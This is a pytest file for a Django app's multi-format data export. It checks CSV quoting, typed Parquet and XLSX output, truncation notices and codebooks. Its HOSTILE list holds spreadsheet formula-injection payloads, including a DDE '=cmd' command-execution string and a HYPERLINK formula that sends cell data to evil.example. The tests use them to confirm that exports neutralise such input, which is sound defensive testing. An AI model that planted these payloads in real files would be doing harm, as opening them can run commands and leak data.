"""Every format of every list: the same values, no formulas, and a word at the end where not all was written."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import openpyxl
import psycopg
import pyarrow as pa
import pytest
from django.db.backends.postgresql.psycopg_any import NumericRange
from django.db.models import QuerySet
from pyarrow import parquet

from articles.models import Claim, Dispute
from articles.selectors.exports import FORMS, TABLES, at_level, exported
from articles.selectors.exports.codebook import codebook_csv, codebook_json
from articles.selectors.exports.columns import FORMULA
from articles.selectors.exports.lines import csv_file, json_file, json_lines_file
from articles.selectors.exports.parquet import parquet_file
from articles.selectors.exports.reading import Job
from articles.selectors.exports.sheets import xlsx_file
from tests.factories import make_claim, make_dispute, make_figure, make_membership, make_outlet, make_speaker

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    " =1+1", "＝1+1", "\u00a0=1", '"=1+1"', '",=1+1,"', 'x";=1+1;"', "a\n=1+1", "'=1", "''-1", "'tis", "-5.2", "+3.5%",
    "-$4.2 billion", "@username said 5%", "plain", "line\u2028break", "null", "\\N", "\\.", 'quote " and \\ back', "日本 35",
]  # fmt: skip


def rows() -> QuerySet[Claim]:
    return Claim.objects.order_by("pk")


def whole(chunks: Iterator[bytes]) -> bytes:
    return b"".join(chunks)


def table(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(), newline="")))


def undone(cell: str) -> str:
    """What the codebook tells a reader to do."""
    return cell[1:] if re.match(rf"'(?={FORMULA[1:]})", cell) else cell


def sheet_of(raw: bytes) -> list[dict[str, Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]
    heading, *lines = sheet.iter_rows()
    return [{str(top.value): cell for top, cell in zip(heading, line, strict=True)} for line in lines]


@pytest.fixture
def typical(db: None) -> Claim:
    claim = make_claim(
        "3500000000.25", hedge="at_least", outlet=make_outlet("Marrow Herald"), speaker=make_speaker("Ana Veld"),
        interval=NumericRange(Decimal("3500000000.25"), None, "(]"), as_of=date(2026, 2, 27), corrected_fields=["unit"],
    )  # fmt: skip
    make_figure(claim)
    return claim


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_holds_no_formula_and_gives_the_text_back(text: str) -> None:
    make_claim("35", subject=text)
    cell = table(whole(exported(rows(), "claims", "csv")))[0]["subject"]
    assert not cell.lstrip(" \u00a0\t").startswith(("=", "+", "-", "@", "\r", "＝"))
    assert undone(cell) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_other_formats_hold_the_text_itself(text: str) -> None:
    make_claim("35", subject=text)
    assert json.loads(whole(exported(rows(), "claims", "jsonl")))["subject"] == text
    assert pa_table(whole(exported(rows(), "claims", "parquet")))["subject"] == [text]
    cell = sheet_of(whole(exported(rows(), "claims", "xlsx")))[0]["subject"]
    assert cell.data_type == "s"
    assert str(cell.value).replace("_x000D_", "\r") == text


def pa_table(raw: bytes) -> dict[str, list[Any]]:
    cells: dict[str, list[Any]] = parquet.read_table(io.BytesIO(raw)).to_pydict()
    return cells


def test_numbers_stay_numbers_in_csv() -> None:
    make_claim("-5.2")
    assert table(whole(exported(rows(), "claims", "csv")))[0]["value"] == "-5.2"


def test_every_cell_is_quoted(typical: Claim) -> None:
    lines = whole(exported(rows(), "claims", "csv")).decode().splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert len(next(csv.reader(lines[1:]))) == len(TABLES["claims"].columns) == lines[1].count('","') + 1


def test_json_names_open_ends_and_exact_numbers(typical: Claim) -> None:
    row = json.loads(whole(exported(rows(), "claims", "ndjson")))
    assert (row["value"], row["low"], row["high"]) == ("3500000000.25", "3500000000.25", None)
    assert (row["low_open"], row["high_open"], row["currency"], row["outlet"]) == (True, False, None, "Marrow Herald")
    assert (row["as_of"], row["corrected"], row["figures"]) == ("2026-02-27", ["unit"], [typical.figures.get().pk])
    assert row["reported_at"] == typical.reported_at.isoformat()


def test_json_array_is_one_document(typical: Claim) -> None:
    make_claim("36")
    assert [row["id"] for row in json.loads(whole(exported(rows(), "claims", "json")))] == list(
        rows().values_list("pk", flat=True)
    )
    assert json.loads(whole(exported(Claim.objects.none(), "claims", "json"))) == []


def test_parquet_is_typed(typical: Claim) -> None:
    raw = whole(exported(rows(), "claims", "parquet"))
    schema = parquet.read_schema(io.BytesIO(raw))
    assert schema.field("value").type == pa.decimal128(38, 10)
    assert schema.field("reported_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("value").metadata[b"meaning"]
    row = {name: cells[0] for name, cells in pa_table(raw).items()}
    assert (row["value"], row["reported_at"], row["as_of"]) == (
        Decimal("3500000000.25"),
        typical.reported_at,
        date(2026, 2, 27),
    )
    assert (row["figures"], row["corrected"], row["high"]) == ([typical.figures.get().pk], ["unit"], None)


def test_workbook_is_typed_and_says_what_it_holds(typical: Claim) -> None:
    raw = whole(exported(rows(), "claims", "xlsx"))
    row = sheet_of(raw)[0]
    assert (row["value"].value, row["value"].data_type) == (3500000000.25, "n")
    assert row["reported_at"].value == typical.reported_at.replace(tzinfo=None)
    assert (row["low_open"].value, row["high"].value, row["as_of"].is_date) == (True, None, True)
    about = openpyxl.load_workbook(io.BytesIO(raw))["about"]
    assert "1 rows" in about["A1"].value
    assert "Complete" in about["A2"].value
    assert [line[0].value for line in about.iter_rows(min_row=5)] == TABLES["claims"].names


def test_workbook_keeps_digits_that_a_float_would_round() -> None:
    make_claim("12345678901234567.5")
    assert sheet_of(whole(exported(rows(), "claims", "xlsx")))[0]["value"].value == "12345678901234567.5"


def test_workbook_escapes_what_xml_does_not_hold() -> None:
    make_claim("35", subject="a\x01b_x0041_c & <d>\n\te")
    cell = sheet_of(whole(exported(rows(), "claims", "xlsx")))[0]["subject"]
    assert cell.value == "a_x0001_b_x005F_x0041_c & <d>\n\te"


def test_workbook_tells_days_before_its_calendar_as_text() -> None:
    make_claim("35", as_of=date(1850, 2, 27))
    assert sheet_of(whole(exported(rows(), "claims", "xlsx")))[0]["as_of"].value == "1850-02-27"


def test_workbook_names_columns_past_the_alphabet(typical: Claim) -> None:
    row = sheet_of(whole(exported(rows(), "claims", "xlsx")))[0]
    assert len(row) == len(TABLES["claims"].columns) > 26
    assert [cell.column for cell in row.values()] == list(range(1, len(row) + 1))


def test_workbook_that_grows_too_large_is_cut(monkeypatch: pytest.MonkeyPatch, typical: Claim) -> None:
    monkeypatch.setattr("articles.selectors.exports.sheets.MOST_BYTES", 100)
    lines = sheet_of(whole(exported(rows(), "claims", "xlsx")))
    assert [str(line["id"].value) for line in lines] == [
        "# cut after 0 rows: a workbook holds no more; use another format"
    ]


def test_workbook_is_sent_while_its_rows_are_read(monkeypatch: pytest.MonkeyPatch, typical: Claim) -> None:
    read = 0

    def endless(self: Job, styles: object) -> Iterator[str]:
        nonlocal read
        while True:
            read += 1
            yield f'<row r="{read + 1}"><c r="A{read + 1}"><v>{hash((read, "x"))}</v></c></row>'

    monkeypatch.setattr(Job, "sheet_rows", endless)
    sent = xlsx_file(Job(rows(), TABLES["claims"]))
    assert next(sent).startswith(b"PK")
    assert read < 100_000


@pytest.mark.parametrize("form", ["csv", "json", "jsonl"])
@pytest.mark.parametrize("most", [1, 2, 3])
def test_cut_lines_say_so_at_the_end(form: str, most: int) -> None:
    for _ in range(2):
        make_claim("35")
    job = Job(rows(), TABLES["claims"], most)
    raw = whole({"csv": csv_file, "json": json_file, "jsonl": json_lines_file}[form](job))
    assert (b"cut" in raw.rstrip().splitlines()[-1 if form != "json" else -2]) == (most == 1) == bool(job.cut)
    assert job.count == min(most, 2)


def test_cut_workbook_and_parquet_say_so() -> None:
    for _ in range(2):
        make_claim("35")
    raw = whole(xlsx_file(Job(rows(), TABLES["claims"], 1)))
    assert str(sheet_of(raw)[-1]["id"].value).startswith("# cut after 1 rows")
    raw = whole(parquet_file(Job(rows(), TABLES["claims"], 1)))
    footer = parquet.read_metadata(io.BytesIO(raw)).metadata
    assert (footer[b"rows"], b"more than 1" in footer[b"cut"]) == (b"1", True)


def test_database_that_stops_midway_is_told(monkeypatch: pytest.MonkeyPatch, typical: Claim) -> None:
    def broken(self: Job) -> Iterator[bytes]:
        self.count = 1
        yield b'{"id": 1}\n'
        self._broken(psycopg.OperationalError("canceling statement"))

    monkeypatch.setattr(Job, "json_lines", broken)
    last = whole(exported(rows(), "claims", "jsonl")).splitlines()[-1]
    assert json.loads(last) == {"cut": "the database stopped: canceling statement", "rows": 1}


def test_query_over_its_time_raises_before_the_first_byte(typical: Claim) -> None:
    slow = rows().extra(where=["pg_sleep(2) IS NOT NULL"])
    with pytest.raises(psycopg.errors.QueryCanceled):
        whole(csv_file(Job(slow, TABLES["claims"], limit=timedelta(seconds=1))))


@pytest.mark.parametrize("kind", list(TABLES))
@pytest.mark.parametrize("form", list(FORMS))
def test_every_list_has_every_format(kind: str, form: str, typical: Claim) -> None:
    make_dispute(typical.figures.get())
    raw = whole(exported(TABLES[kind].model._default_manager.order_by("pk"), kind, form))
    assert raw
    assert whole(exported(TABLES[kind].model._default_manager.none(), kind, form)) is not None
    assert Dispute.objects.count() == 1


def test_levels_lead_from_claims_to_figures_and_back(typical: Claim) -> None:
    figure = typical.figures.get()
    other = make_claim("36")
    make_membership(figure, other)
    make_claim("9")
    figures, kind = at_level(Claim.objects.filter(pk=typical.pk), "claims", "figures")
    assert (list(figures), kind) == ([figure], "figures")
    claims, kind = at_level(figures, "figures", "mentions")
    assert (list(claims), kind) == ([typical, other], "claims")
    assert at_level(claims, "claims", "mentions") == (claims, "claims")


@pytest.mark.parametrize("kind", list(TABLES))
def test_codebook_explains_every_column(kind: str) -> None:
    book = json.loads(codebook_json(TABLES[kind]))
    assert [entry["column"] for entry in book["columns"]] == TABLES[kind].names
    assert all(entry["meaning"] and entry["type"] for entry in book["columns"])
    assert [row["column"] for row in table(codebook_csv(TABLES[kind]))] == TABLES[kind].names


def test_rows_of_a_long_export_come_in_pieces(typical: Claim) -> None:
    for _ in range(3):
        make_claim("35", sentence="x" * 50_000, subject="y" * 50_000)
    assert len(list(exported(rows(), "claims", "csv"))) > 1
